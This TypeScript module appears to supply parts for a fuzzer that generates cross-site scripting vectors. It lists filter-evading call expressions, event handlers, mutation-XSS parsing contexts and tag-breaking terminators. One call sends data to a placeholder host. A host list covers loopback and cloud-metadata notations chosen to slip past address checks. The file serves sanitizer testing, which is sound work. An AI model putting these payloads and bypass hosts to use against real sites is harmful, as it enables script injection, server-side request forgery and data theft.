// Parts that random vectors are made of: see random-vectors.ts.

/** What a vector calls if it gets through, written so that a filter of names does not see it. */
export const CALLS = [
  'xss()',
  'window.xss?.()',
  "self['x'+'ss']()",
  'top[`xs${"s"}`]()',
  '(0,xss)()',
  'setTimeout(`xss()`)',
  "Function('xss()')()",
  '[].map.constructor`xss()```',
  "import('data:text/javascript,xss()')",
  'xss`1`',
  'onerror=xss;throw 1',
  '\\u0078ss()',
  'globalThis[atob(`eHNz`)]()',
  'frames.xss()',
  'new Image().src=`http://xss.invalid/`+xss()',
];

export const SPACES = [' ', '\t', '\n', '\r', '\f', '/', ' / ', '\u00a0', '\u000b', ''];
export const NOTHINGS = [
  '\u200b',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u202e',
  '\u2066',
  '\u2069',
  '\u0000',
  '\u0001',
  '\u007f',
  '\u2028',
  '\ud800',
  '\udfff',
  '\ufffe',
  '\u034f',
];

export const HANDLER_NAMES = `
  onerror onload onfocus onfocusin onpointerover onpointerrawupdate onmouseenter onclick
  onauxclick onanimationstart onanimationend ontransitionend ontoggle onbeforetoggle onbegin
  onend onrepeat onslotchange onscroll onscrollend onresize onhashchange onpageshow onmessage
  onunhandledrejection oncontentvisibilityautostatechange onbeforematch onsecuritypolicyviolation`
  .trim()
  .split(/\s+/);

export const URL_ATTRIBUTES = `
  href xlink:href src srcset imagesrcset action formaction data srcdoc poster background ping
  cite manifest longdesc style values to`
  .trim()
  .split(/\s+/);

export const ELEMENTS = `
  a area audio base button details dialog embed form frameset iframe image img input link meta
  object ois-form-frame ois-widget portal script slot source style svg track video x-element`
  .trim()
  .split(/\s+/);

/** Contexts that browsers parse in their own way, and in which a second parse gives another tree (mutation XSS). */
export const CONTEXTS = [
  'annotation-xml encoding="text/html"',
  'desc',
  'foreignObject',
  'form',
  'frameset',
  'iframe',
  'malignmark',
  'math',
  'mglyph',
  'mi',
  'mtext',
  'noembed',
  'noscript',
  'option',
  'p',
  'plaintext',
  'select',
  'style',
  'svg',
  'table',
  'template',
  'template shadowrootmode=open',
  'textarea',
  'title',
  'xmp',
];

export const ENDS = [
  '',
  '">',
  "'>",
  '>',
  '-->',
  '--!>',
  ']]>',
  '</title>',
  '</style>',
  '</textarea>',
  '</script>',
  '</noscript>',
  '</template>',
  '</svg>',
  '</math>',
  '*/',
  '\\u003e',
  '%22%3E',
  '&quot;&gt;',
  '?>',
  '<!--',
  '<![CDATA[',
  '<!--?lit$1234$-->',
  '<?lit$1234$>',
  '${',
  '`}',
];

/** Hosts, of which some are this machine in a notation that is not that of a check. */
export const HOSTS = [
  'xss.invalid',
  'XSS.INVALID.',
  'localhost.xss.invalid',
  'localhost%2exss.invalid',
  'localhost。xss.invalid',
  '127.0.0.1.nip.io',
  '127.1',
  '0',
  '0x7f.1',
  '2130706433',
  '[::ffff:127.0.0.1]',
  '[::ffff:10.0.0.1]',
  '[::]',
  '[::1]',
  '10.0.0.1',
  '169.254.169.254',
  'localhost',
  'localhost.',
  'ⓛocalhost',
  'xn--localhost-',
  'xss。invalid',
  'user.localhost',
];
